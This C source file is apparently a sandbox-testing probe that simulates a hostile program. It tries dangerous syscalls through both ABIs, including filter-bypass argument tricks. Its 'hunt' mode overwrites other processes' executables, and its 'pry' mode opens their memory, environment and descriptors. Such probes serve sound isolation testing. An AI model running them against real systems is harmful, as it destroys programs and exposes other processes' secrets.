/* What a hostile program tries. Static and not relocated, so that int $0x80 can be given addresses of its data.
 *
 * probe calls [FILTER]   every call below, once by syscall and once by int $0x80, each in a process of its own;
 *                        "NAME ABI RESULT" a line, RESULT "ok" or an errno's number. FILTER: a seccomp program to load.
 * probe hunt SECONDS     overwrite the program of any process whose program is not this one
 * probe pry SECONDS      get at the descriptors, the root and the memory of any process whose program is not this one
 * probe fds              open file descriptors and where they lead
 * probe tiocsti          put a character into one's own terminal
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static char area[65536] __attribute__((aligned(4096)));

static long native(long number, const long *a)
{
	register long r10 __asm__("r10") = a[3], r8 __asm__("r8") = a[4], r9 __asm__("r9") = a[5];
	long result;
	__asm__ volatile("syscall"
			 : "=a"(result)
			 : "a"(number), "D"(a[0]), "S"(a[1]), "d"(a[2]), "r"(r10), "r"(r8), "r"(r9)
			 : "rcx", "r11", "memory");
	return result;
}

/* The sixth argument would need %ebp; no call below has one. */
static long int80(long number, const long *a)
{
	long result;
	__asm__ volatile("int $0x80"
			 : "=a"(result)
			 : "a"(number), "b"(a[0]), "c"(a[1]), "d"(a[2]), "S"(a[3]), "D"(a[4])
			 : "memory", "r8", "r9", "r10", "r11");
	return (int)result;
}

struct call {
	const char *name;
	long native, compat;
	long arguments[6];
	int on; /* what the first argument is: 0 as given, 1 a TCP socket, 2 a terminal, 3 our pid, 4 a pidfd of ours */
};

#define AREA ((long)area)
#define HIGH (1L << 32)

static const struct call calls[] = {
	{"keyctl", 250, 288, {0, -3, 0}, 0},
	{"add_key", 248, 286, {(long)"user", (long)"probe", (long)"x", 1, -1}, 0},
	{"request_key", 249, 287, {(long)"user", (long)"probe", 0, -1}, 0},
	{"bpf", 321, 357, {0, AREA + 4096, 72}, 0},
	{"perf_event_open", 298, 336, {AREA + 8192, 0, -1, -1, 0}, 0},
	{"userfaultfd", 323, 374, {1}, 0},
	{"io_uring_setup", 425, 425, {4, AREA}, 0},
	{"unshare_user", 272, 310, {CLONE_NEWUSER}, 0},
	{"clone_user", 56, 120, {CLONE_NEWUSER | SIGCHLD, 0}, 0},
	{"clone_mount", 56, 120, {CLONE_NEWNS | SIGCHLD, 0}, 0},
	{"clone_user_high", 56, 120, {CLONE_NEWUSER | SIGCHLD | HIGH, 0}, 0},
	{"clone3", 435, 435, {AREA + 12288, 88}, 0},
	{"mount", 165, 21, {(long)"none", (long)"/", 0, 1 << 18, 0}, 0},
	{"fsopen", 430, 430, {(long)"tmpfs", 0}, 0},
	{"open_tree", 428, 428, {AT_FDCWD, (long)"/", 1}, 0},
	{"name_to_handle", 303, 341, {AT_FDCWD, (long)"/", AREA + 16384, AREA + 20480, 0}, 0},
	{"open_by_handle_at", 304, 342, {AT_FDCWD, AREA + 16384, 0}, 0},
	{"process_vm_readv", 310, 347, {0, AREA, 0, AREA, 0}, 3},
	{"kcmp", 312, 349, {0, 0, 0, 0, 0}, 5},
	{"pidfd_getfd", 438, 438, {0, 0, 0}, 4},
	{"personality", 135, 136, {0x0040000}, 0},
	{"modify_ldt", 154, 123, {0, AREA, 16}, 0},
	{"syslog", 103, 103, {10, 0, 0}, 0},
	{"quotactl", 179, 131, {0x80000100, 0, 0, 0}, 0},
	{"swapon", 167, 87, {(long)"/", 0}, 0},
	{"setns", 308, 346, {0, 0}, 6},
	{"sethostname", 170, 74, {0, -1}, 0}, /* fails with EINVAL where it is allowed */
	{"get_mempolicy", 239, 275, {0, 0, 0, 0, 0}, 0},
	{"socket_vsock", 41, 359, {40, SOCK_STREAM, 0}, 0},
	{"socket_vsock_high", 41, 359, {40 | HIGH, SOCK_STREAM, 0}, 0},
	{"socket_alg", 41, 359, {38, 5, 0}, 0},
	{"socket_packet", 41, 359, {17, SOCK_RAW, 0}, 0},
	{"tcp_ulp", 54, 366, {0, 6, 31, (long)"tls", 3}, 1},
	{"tcp_ulp_high", 54, 366, {0, 6 | HIGH, 31 | HIGH, (long)"tls", 3}, 1},
	{"tcp_nodelay", 54, 366, {0, 6, 1, AREA + 24576, 4}, 1},
	{"tiocsti", 16, 54, {0, 0x5412, (long)"x"}, 2},
	{"tiocsti_high", 16, 54, {0, 0x5412 | HIGH, (long)"x"}, 2},
	{"tiocgwinsz", 16, 54, {0, 0x5413, AREA}, 2},
	{"getpid", 39, 20, {0}, 0},
	{"no_such_call", 9999, 9999, {0}, 0},
};

static long first_argument(int on, long given)
{
	switch (on) {
	case 1:
		return socket(AF_INET, SOCK_STREAM, 0);
	case 2: {
		int terminal = open("/dev/ptmx", O_RDWR | O_NOCTTY), number = 0, unlock = 0;
		char path[32];
		ioctl(terminal, TIOCSPTLCK, &unlock);
		ioctl(terminal, TIOCGPTN, &number);
		snprintf(path, sizeof path, "/dev/pts/%d", number);
		setsid();
		return open(path, O_RDWR); /* and it is the controlling terminal now */
	}
	case 3:
	case 5:
		return getpid();
	case 4:
		return syscall(SYS_pidfd_open, getpid(), 0);
	case 6:
		return open("/proc/self/ns/mnt", O_RDONLY);
	default:
		return given;
	}
}

static int load(const char *path)
{
	int file = open(path, O_RDONLY);
	ssize_t length = read(file, area, sizeof area);
	struct sock_fprog program = {(unsigned short)(length / 8), (struct sock_filter *)area};
	if (length <= 0 || prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) || prctl(PR_SET_SECCOMP, 2, &program))
		return -1;
	memset(area, 0, sizeof area);
	return 0;
}

static void prepare(void)
{
	*(uint32_t *)(area + 4096) = 2; /* BPF_MAP_TYPE_ARRAY */
	*(uint32_t *)(area + 4096 + 4) = 4, *(uint32_t *)(area + 4096 + 8) = 4, *(uint32_t *)(area + 4096 + 12) = 1;
	*(uint32_t *)(area + 8192) = 1, *(uint32_t *)(area + 8192 + 4) = 64; /* software, cpu clock */
	*(uint64_t *)(area + 12288 + 32) = SIGCHLD;
	*(uint32_t *)(area + 16384) = 128; /* room of a struct file_handle */
	*(int *)(area + 24576) = 1;
}

static void try_call(const struct call *call, int compat)
{
	fflush(stdout);
	pid_t child = syscall(SYS_fork);
	if (!child) {
		long arguments[6], result;
		prepare();
		memcpy(arguments, call->arguments, sizeof arguments);
		arguments[0] = first_argument(call->on, arguments[0]);
		if (call->on == 5)
			arguments[1] = arguments[0];
		if (!strcmp(call->name, "open_by_handle_at"))
			name_to_handle_at(AT_FDCWD, "/", (struct file_handle *)(area + 16384), (int *)(area + 20480), 0);
		result = compat ? int80(call->compat, arguments) : native(call->native, arguments);
		if (!strncmp(call->name, "clone", 5) && result == 0) /* its child */
			_exit(0);
		if (result < 0)
			printf("%s %s %ld\n", call->name, compat ? "i386" : "x86_64", -result);
		else
			printf("%s %s ok\n", call->name, compat ? "i386" : "x86_64");
		fflush(stdout);
		_exit(0);
	}
	while (waitpid(-1, NULL, 0) > 0)
		;
}

static int hunt(int seconds)
{
	char self[256], path[64], target[256];
	time_t end = time(NULL) + seconds;
	int found = 0, written = 0;
	ssize_t length = readlink("/proc/self/exe", self, sizeof self - 1);
	self[length < 0 ? 0 : length] = 0;
	printf("hunting\n");
	fflush(stdout);
	while (time(NULL) < end) {
		DIR *processes = opendir("/proc");
		for (struct dirent *entry; (entry = readdir(processes));) {
			if (entry->d_name[0] < '1' || entry->d_name[0] > '9')
				continue;
			snprintf(path, sizeof path, "/proc/%.20s/exe", entry->d_name);
			length = readlink(path, target, sizeof target - 1);
			if (length <= 0)
				continue;
			target[length] = 0;
			if (!strcmp(target, self) || !strncmp(target, "/bin/", 5))
				continue;
			int held = open(path, O_PATH);
			if (held < 0)
				continue;
			found++;
			snprintf(path, sizeof path, "/proc/self/fd/%d", held);
			for (int tries = 0; tries < 2000; tries++) {
				int writable = open(path, O_WRONLY | (tries & 1 ? O_TRUNC : 0));
				if (writable < 0) {
					if (errno != ETXTBSY)
						break;
					continue;
				}
				if (write(writable, "pwned", 5) == 5 || !ftruncate(writable, 0))
					written++;
				close(writable);
				break;
			}
			close(held);
		}
		closedir(processes);
	}
	printf("found %d written %d\n", found, written);
	return 0;
}

/* Whether a process's program is one of the image's, or it has none any more (a zombie): nobody's secret. A program
 * that may not be looked at is somebody's. */
static int ours(const char *pid)
{
	char path[64], target[256];
	snprintf(path, sizeof path, "/proc/%.20s/exe", pid);
	ssize_t length = readlink(path, target, sizeof target - 1);
	if (length <= 0)
		return errno == ENOENT || errno == ESRCH;
	target[length] = 0;
	return !strncmp(target, "/bin/", 5);
}

static void pry_into(const char *pid)
{
	static const char *const doors[] = {"root", "cwd", "mem", "environ", "maps", "exe", NULL};
	char path[320];
	for (int at = 0; doors[at]; at++) {
		snprintf(path, sizeof path, "/proc/%.20s/%s", pid, doors[at]);
		int fd = open(path, strcmp(doors[at], "mem") ? O_RDONLY : O_RDWR);
		if (fd >= 0 && !ours(pid))
			printf("opened %s of %s\n", doors[at], pid);
		close(fd);
	}
	snprintf(path, sizeof path, "/proc/%.20s/fd", pid);
	DIR *held = opendir(path);
	for (struct dirent *entry; held && (entry = readdir(held));) {
		if (entry->d_name[0] == '.')
			continue;
		snprintf(path, sizeof path, "/proc/%.20s/fd/%.20s", pid, entry->d_name);
		int fd = open(path, O_RDONLY | O_NONBLOCK);
		if (fd >= 0 && !ours(pid))
			printf("opened descriptor %s of %s\n", entry->d_name, pid);
		close(fd);
	}
	if (held)
		closedir(held);
}

static int pry(int seconds)
{
	time_t end = time(NULL) + seconds;
	int seen = 0, last = 0;
	printf("prying\n");
	fflush(stdout);
	while (time(NULL) < end) {
		DIR *processes = opendir("/proc");
		for (struct dirent *entry; (entry = readdir(processes));) {
			int pid = atoi(entry->d_name);
			if (pid <= 1 || pid == getpid() || ours(entry->d_name))
				continue;
			if (pid != last)
				seen++, last = pid;
			pry_into(entry->d_name);
		}
		closedir(processes);
	}
	printf("seen %d\n", seen);
	return 0;
}

static int fds(void)
{
	char path[64], target[256];
	for (int fd = 0; fd < 1024; fd++) {
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		ssize_t length = readlink(path, target, sizeof target - 1);
		if (length < 0)
			continue;
		target[length] = 0;
		printf("%d %s\n", fd, target);
	}
	return 0;
}

int main(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	if (!strcmp(argv[1], "hunt"))
		return hunt(argc > 2 ? atoi(argv[2]) : 1);
	if (!strcmp(argv[1], "pry"))
		return pry(argc > 2 ? atoi(argv[2]) : 1);
	if (!strcmp(argv[1], "fds"))
		return fds();
	if (!strcmp(argv[1], "tiocsti")) {
		printf("%d\n", ioctl(0, TIOCSTI, "x") < 0 ? errno : 0);
		return 0;
	}
	if (argc > 2 && load(argv[2]) < 0) {
		perror("filter");
		return 1;
	}
	for (size_t at = 0; at < sizeof calls / sizeof *calls; at++)
		for (int compat = 0; compat < 2; compat++)
			try_call(&calls[at], compat);
	return 0;
}
